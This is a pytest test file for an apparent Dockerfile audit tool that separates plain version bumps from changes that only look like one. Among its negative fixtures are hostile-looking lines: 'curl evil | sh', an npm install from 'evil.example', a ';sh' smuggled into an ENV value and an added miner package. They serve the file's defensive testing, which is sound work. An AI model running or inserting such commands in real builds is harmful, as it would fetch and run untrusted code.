"""Versions that a rebuild takes along, and everything that only looks like one."""

from __future__ import annotations

import pytest

from tagwatch.audit.reading.raised import is_raised, raised_versions
from tagwatch.audit.reading.version_evidence import is_own_version

APK = "RUN apk add --no-cache {} && rm -rf /tmp/*"
RAISED = {
    "apk": (APK.format("openssl=3.3.1-r0"), APK.format("openssl=3.3.2-r1")),
    "apt": ("RUN apt-get install -y nginx=1:1.25-1~deb12", "RUN apt-get install -y nginx=1:1.26-1"),
    "pip": ('RUN pip3 install "a[b,c]==1.0"', 'RUN pip3 install "a[b,c]==1.1"'),
    "pip range": ("RUN pip install a~=1.0", "RUN pip install a~=1.4"),
    "npm scope": ("RUN npm install -g @vue/cli@5.0.1", "RUN npm install -g @vue/cli@5.0.8"),
    "go": ("RUN go install example.com/x@v1.2.3", "RUN go install example.com/x@v1.3.0"),
    "letters": ("RUN apk add openssl=1.1.1w-r0", "RUN apk add openssl=1.1.1x-r0"),
    "a date beside it": (
        "RUN echo 2026-05-01 && apk add a=1.0", "RUN echo 2026-05-02 && apk add a=1.1"),
}  # fmt: skip
OTHER = {
    "lower": (APK.format("openssl=3.3.2-r1"), APK.format("openssl=3.3.1-r0")),
    "another major": (APK.format("node=20.1-r0"), APK.format("node=22.1-r0")),
    "another name": (APK.format("openssl=3.3.1-r0"), APK.format("opensssl=3.3.2-r0")),
    "another epoch": ("RUN apt-get install a=1:1.0", "RUN apt-get install a=2:1.1"),
    "one package more": (APK.format("a=1.0"), APK.format("a=1.1 miner=1.0")),
    "a command more": ("RUN apk add a=1.0", "RUN apk add a=1.1 && curl evil | sh"),
    "in another command": (
        "RUN apk add a=1.0 && fetch b=1.0", "RUN apk add a=1.0 && fetch b=1.1"),
    "a range lifted": ("RUN pip install a==1.0", "RUN pip install a>=1.1"),
    "from an address": ("RUN npm i a@1.0", "RUN npm i a@https://evil.example/1.1.tgz"),
    "an address in an install": (
        "RUN pip install https://a.example/x-1.0.tgz", "RUN pip install https://a.example/x-1.1.tgz"),
    "no install": ("RUN ./configure --level=1.0", "RUN ./configure --level=1.1"),
    "no number": ("ENV YARN_VERSION=1.22", "ENV YARN_VERSION=1.22;sh"),
    "no RUN": ("COPY a-1.0 /", "COPY a-1.1 /"),
    "another variable": ("ENV YARN_VERSION=1.0", "ENV NPM_VERSION=1.1"),
    "a plain variable": ("ENV LEVEL=1.0", "ENV LEVEL=1.1"),
}  # fmt: skip


def never(_variable: str, _value: str) -> bool:
    return False


@pytest.mark.parametrize("name", RAISED)
def test_what_a_rebuild_takes_along(name: str) -> None:
    assert raised_versions([RAISED[name]], never) is not None


@pytest.mark.parametrize("name", OTHER)
def test_what_is_another_build(name: str) -> None:
    assert raised_versions([OTHER[name]], never) is None


def test_what_rose_is_named() -> None:
    pairs = [
        ("ENV YARN_VERSION=1.22.19", "ENV YARN_VERSION=1.22.22"),
        ("RUN curl https://a.example/yarn-v1.22.19.tgz", "RUN curl https://a.example/yarn-v1.22.22.tgz"),
        ("RUN apk add a=1.0 b=2.0", "RUN apk add a=1.1 b=2.0"),
    ]  # fmt: skip
    assert raised_versions(pairs, never) == ("YARN_VERSION 1.22.19 to 1.22.22", "a 1.0 to 1.1")
    elsewhere = ("RUN curl https://a.example/1.22.19", "RUN curl https://b.example/1.22.22")
    assert raised_versions([pairs[0], elsewhere], never) is None
    assert raised_versions([pairs[1]], never) is None, "nothing says that this is a tool's version"


def test_the_image_s_own_version_is_no_tool_s() -> None:
    def own(variable: str, value: str) -> bool:
        return is_own_version("library/redis", "6.2.14", variable, value)

    for pair in (
        ("ENV REDIS_VERSION=6.0.1", "ENV REDIS_VERSION=6.0.2"),
        ("RUN |1 APP_VERSION=6.2.14 make", "RUN |1 APP_VERSION=6.2.15 make"),
    ):
        assert raised_versions([pair], own) is None
        assert raised_versions([pair], never) is not None


@pytest.mark.parametrize(
    ("old", "new", "rose"),
    [
        ("1.9", "1.10", True),
        ("1.10", "1.9", False),
        ("1.0", "1.0", False),
        ("1.0", "1.0.1", True),
        ("v1.2", "v1.3", True),
        ("latest", "1.0", False),
        ("0.9", "1.0", False),
    ],
)
def test_what_rises(old: str, new: str, rose: bool) -> None:
    assert is_raised(old, new) is rose


def test_a_long_step_costs_no_quadratic_time() -> None:
    words = " ".join(f"a{n}=1.0" for n in range(5_000))
    assert raised_versions([(f"RUN apk add {words}", f"RUN apk add {words} b=1")], never) is None
